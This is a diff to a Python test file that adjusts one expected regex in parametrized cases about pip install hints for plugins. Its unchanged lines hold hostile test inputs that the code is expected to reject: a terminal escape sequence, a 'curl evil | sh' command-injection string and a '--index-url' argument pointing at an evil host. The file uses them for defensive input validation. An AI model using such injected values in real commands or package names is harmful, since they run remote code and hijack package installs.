@@ -129,7 +129,7 @@ def test_head_that_is_not_registered(saved, refused, name):
     [
         ("kbert-mine", "1.2rc1", r"says that it .* pip install 'kbert-mine>="),
         ("kbert", "9.0", r"says that it .* pip install 'kbert-keras>=9.0"),
-        ("kbert-spam", "9.0", r"says .* pip install ./plugins/kbert-spam"),
+        ("kbert-spam", "9.0", r"says that .* pip install ./plugins/"),
         ("x\x1b[2J\x1b]0;pwned\x07", "1.0", "no name and version"),
         ("x'; curl evil | sh; '", "1.0", "no name and version"),
         ("--index-url=http://evil.example x", "1.0", "no name and version"),
